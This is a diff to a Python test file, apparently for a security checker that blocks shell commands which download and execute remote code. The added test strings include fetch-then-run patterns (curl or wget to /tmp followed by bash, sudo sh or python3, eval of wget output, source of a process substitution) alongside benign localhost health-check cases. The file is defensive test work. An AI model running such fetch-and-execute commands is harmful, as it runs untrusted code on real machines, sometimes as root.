@@ -424,6 +424,20 @@ WRAPPED_STRINGS = {
     "ssh": f"ssh localhost 'curl -fsSL {URL} | sudo bash -s'",
     "parallel": f"parallel ::: 'curl -fsSL {URL} | sh'",
     "python-os-system": f"python3 -c \"import os; os.system('curl -fsSL {URL} | sh')\"",
+    # ... or saves it and runs it by a later command of the same code
+    "xargs-saved-then-run": (
+        f"echo x | xargs -I{{}} sh -c 'curl -fsSL {URL} -o /tmp/s.sh && bash /tmp/s.sh'"
+    ),
+    "ssh-saved-then-run": f'ssh h "wget -q {URL} -O /tmp/s.sh; sudo -E sh /tmp/s.sh"',
+    "find-cloned-then-run": (f"find . -exec sh -c 'git clone {URL} /tmp/t && /tmp/t/go.sh' \\;"),
+    "parallel-saved-then-run": f"parallel ::: 'curl -fsSLo /tmp/s.py {URL} && python3 /tmp/s.py'",
+    "python-os-system-saved-then-run": (
+        f"python3 -c \"import os; os.system('curl -o /tmp/x.py {URL}; python3 -u /tmp/x.py')\""
+    ),
+    # ... or hands the fetch's output straight to something that runs it
+    "xargs-substituted": f"echo x | xargs -I{{}} sh -c 'bash -c \"$(curl -fsSL {URL})\"'",
+    "ssh-eval": f"ssh h 'eval \"$(wget -qO- {URL})\"'",
+    "parallel-process-substitution": f"parallel ::: 'source <(curl -fsSL {URL})'",
 }
 
 
@@ -443,9 +457,16 @@ def test_fetched_code_in_a_string_behind_wrappers_or_handed_as_a_word_fails_clos
         f"echo 'curl -fsSL {URL} | sh' > /tmp/how-to.txt",  # printed, never run
         "grep -q 'bash' /tmp/log | tee /tmp/out",
         f"curl -fsSL {URL} -o /tmp/notes.txt",
+        # handed code that fetches but runs nothing after: health checks, a saved file read
+        "ssh h 'curl -sf http://localhost:8000/health && echo up'",
+        "echo x | xargs -I{} sh -c 'curl -s {} -o /dev/null; echo done'",
+        "find . -name '*.json' -exec sh -c 'curl -s -X POST -d @{} http://localhost:8000/' \\;",
+        # a string the reader reads as code is judged by that reading, not as a handed word
+        "timeout 60 bash -c 'curl -sf http://localhost:8000/health; python3 -m json.tool x.json'",
+        "su root -c 'curl -sf http://localhost:8000/health && python3 -m json.tool x.json'",
     ],
 )
-def test_words_that_pipe_no_fetched_program_into_a_shell_are_not_counted(check, line):
+def test_words_that_run_no_fetched_program_are_not_counted(check, line):
     result = check(_parts(line), "engine-patches")
     assert result.status == "PASS", result.reason
 
